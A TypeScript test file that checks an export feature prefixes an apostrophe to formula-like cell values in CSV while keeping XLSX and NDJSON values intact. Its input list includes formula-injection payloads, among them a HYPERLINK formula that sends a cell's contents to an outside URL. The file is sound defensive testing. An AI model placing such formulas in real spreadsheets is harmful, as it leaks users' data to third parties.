import { Workbook, type Worksheet } from 'exceljs';
import { neutralised } from '../../src/platform/files/cells';
import { makeOrganization, makeProgram } from '../support/factories';
import { startTestHub, type TestHub } from '../support/hub';
import { csvRows, fileOf, NDJSON, ndjsonRows, XLSX, type FileAnswer } from './file-client';

const FORMULAS = [
  '=1+1',
  '+1 215 555 0100',
  '-2+3',
  '@SUM(A1)',
  ' =1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("http://example.org?"&A1,"click")',
];
const HARMLESS = ['a=b', '1 - 2', 'x@example.org', "'quoted", '', '#1', '(−1)'];

test.each([...FORMULAS, '\t=1', '\r1', '\n=1'])('%j could be a formula, so an apostrophe stands in front', (text) => {
  expect(neutralised(text)).toBe(`'${text}`);
});

test.each(HARMLESS)('%j stays as it is', (text) => expect(neutralised(text)).toBe(text));

describe('in files', () => {
  let hub: TestHub;
  let names: string[];
  beforeAll(async () => {
    hub = await startTestHub();
    names = FORMULAS.map((text, index) => `${text} ${index}`);
    for (const [index, name] of names.entries()) {
      await makeProgram(hub.database.pool, { name, slug: `p-${index}`, description: index === 0 ? '-5' : null });
    }
    await makeOrganization(hub.database.pool, { name: 'O', alternate_names: ['=1', 'b'] });
  });
  afterAll(() => hub.close());

  const QUERY = '{ programs(orderBy: [{ field: CREATED_AT }]) { nodes { name description version createdAt } } }';

  test('CSV neutralises texts, also of lists, and leaves numbers alone', async () => {
    const rows = csvRows(await fileOf(hub, QUERY));
    expect(rows.map(({ name }) => name)).toEqual(names.map((name) => `'${name}`));
    expect(rows[0]).toMatchObject({ description: "'-5", version: '1' });
    const lists = await fileOf(hub, '{ organizations { nodes { alternateNames } } }');
    expect(csvRows(lists)).toEqual([{ alternateNames: "'=1; b" }]);
  });

  test('XLSX has them as texts, and NDJSON as they are', async () => {
    const sheet = await sheetOf(await fileOf(hub, QUERY, { accept: XLSX }));
    expect(columnOf(sheet, 1)).toEqual(['name', ...names]);
    expect(sheet.getColumn(1).values.every((value) => typeof value === 'string' || value === undefined)).toBe(true);
    const rows = ndjsonRows<{ name: string }>(await fileOf(hub, QUERY, { accept: NDJSON }));
    expect(rows.map(({ name }) => name)).toEqual(names);
  });
});

async function sheetOf({ body }: FileAnswer): Promise<Worksheet> {
  const workbook = new Workbook();
  await workbook.xlsx.load(body as never);
  return workbook.worksheets[0] as Worksheet;
}

function columnOf(sheet: Worksheet, column: number): unknown[] {
  return (sheet.getColumn(column).values as unknown[]).slice(1);
}
